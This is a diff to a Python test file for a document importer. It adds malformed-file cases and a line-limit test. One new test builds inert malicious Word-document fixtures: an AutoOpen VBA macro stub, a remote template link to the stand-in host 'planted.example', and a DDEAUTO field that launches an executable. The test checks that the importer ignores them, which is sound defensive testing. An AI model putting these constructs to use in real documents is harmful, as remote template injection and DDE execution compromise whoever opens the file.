@@ -15,6 +15,7 @@ from esa.documents.report.word import word_report
 from esa.imports.importing import Imported, import_report, read_report
 from esa.imports.into import Answers, into
 from esa.imports.lines import Unreadable
+from esa.imports.read_text import MOST_LINES
 from esa.imports.several import prepared
 from esa.judged import Judged
 from esa.reading.office import BANGKOK, Office, read_office
@@ -305,6 +306,8 @@ BAD = {
     "a.pdf": (b"%PDF-1.4", "import_pdf"),
     "really a pdf.docx": (b"%PDF-1.4", "import_pdf"),
     "a.odt": (b"", "import_kind"),
+    "a.docm": (zipped(word__document_xml=body("")), "import_kind"),
+    "many.txt": ("ก\n".encode() * (MOST_LINES + 1), "import_many_lines"),
     "a.docx": (b"not a zip", "import_broken"),
     "cut.docx": (zipped(word__document_xml=b"<w:document>" * 50)[:-40], "import_broken"),
     "xml.docx": (zipped(word__document_xml=b"<w:document><oops"), "import_broken"),
@@ -369,6 +372,25 @@ def test_what_is_in_pictures_and_embedded_files_is_told_as_not_read():
     data = zipped(word__document_xml=body(f"<w:p>{said('ก')}</w:p>"), **parts)
     doubts = read_report("a.docx", data).doubts
     assert [(doubt.code, doubt.facts) for doubt in doubts] == [("import_not_read", {"count": 2})]
+
+
+def test_macros_and_templates_of_a_renamed_file_are_not_read_and_stay_out_of_the_text():
+    foreign = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="https://planted.example/a.dotm" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    parts = {"word/vbaProject.bin": b"Sub AutoOpen()", "word/vbaData.xml": b"<x/>"}
+    parts |= {"word/_rels/settings.xml.rels": foreign, "customUI/customUI.xml": b"<x/>"}
+    field = "<w:r><w:instrText>DDEAUTO c:\\x.exe</w:instrText></w:r>"
+    assert lines(f"<w:p>{said('ก')}{field}</w:p>", **parts) == ["ก"]
+
+
+def test_as_many_lines_as_5_mb_of_the_shortest_have_are_read():
+    text = "ประชุม\nนิเทศ\n1/2557\n" * (5_000_000 // 42)
+    assert len(text.encode()) > 4_900_000 and text.count("\n") < MOST_LINES
+    assert sum(1 for _ in read_report("a.txt", text.encode()).lines()) == text.count("\n")
 
 
 @pytest.mark.parametrize("name", BAD)
